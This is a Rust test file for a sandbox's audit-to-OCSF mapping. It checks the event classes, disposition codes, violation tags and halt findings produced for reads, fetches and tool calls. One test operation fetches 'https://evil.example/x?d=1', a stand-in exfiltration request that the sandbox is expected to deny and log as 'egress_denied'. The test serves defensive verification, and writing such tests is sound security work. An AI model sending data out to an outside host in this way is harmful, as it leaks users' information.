//! The mapping's shape: each kind of record lands in its class with its
//! disposition (the schema itself is checked end to end, against the OCSF
//! schema, in `tests/tests/e2e/audit.rs`).

use super::*;
use crate::{Capabilities, Op, Sandbox};

fn ctx() -> Context {
    Context {
        program: "plan".into(),
        run: "r1".into(),
        grant: "sha256:00".into(),
        start_ms: 1_700_000_000_000,
        host: "h".into(),
        version: "0.1.0".into(),
        ..Context::default()
    }
}

#[test]
fn each_record_lands_in_its_class_with_its_disposition() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.txt"), "a").unwrap();
    let caps = Capabilities::builder()
        .read_mount(dir.path(), "/work")
        .max_ops(3)
        .build()
        .unwrap();
    let mut sb = Sandbox::new(caps).unwrap();
    for op in [
        Op::read("/work/a.txt"),
        Op::fetch("https://evil.example/x?d=1"),
        Op::tool("t", "{}"),
        Op::read("/work/a.txt"),
    ] {
        sb.run(op);
    }
    let events = run(sb.audit(), Some(&sb.report()), &ctx());
    let classes: Vec<(u64, u64, u64)> = events
        .iter()
        .map(|e| {
            let n = |k: &str| e[k].as_u64().unwrap_or(0);
            (n("class_uid"), n("activity_id"), n("disposition_id"))
        })
        .collect();
    assert_eq!(
        classes,
        [
            (6002, 3, 1),
            (1001, 2, 1),
            (4002, 99, 2),
            (6003, 99, 2),
            (1001, 2, 2),
            (2004, 1, 2),
            (6002, 4, 1),
        ]
    );
    let fetch = &events[2];
    assert_eq!(fetch["http_request"]["url"]["hostname"], "evil.example");
    assert_eq!(fetch["unmapped"]["sbx"]["violation"], "egress_denied");
    assert_eq!(fetch["type_uid"], 400299);
    assert_eq!(
        events[1]["firewall_rule"]["name"]
            .as_str()
            .unwrap()
            .split(' ')
            .next(),
        Some("read")
    );
    assert_eq!(events[1]["metadata"]["tags"][0]["value"], "sha256:00");
    assert_eq!(
        events[5]["finding_info"]["title"],
        "sbx-wasm halted a run: max_ops"
    );
    assert_eq!(events[6]["status"], "Failure");
}
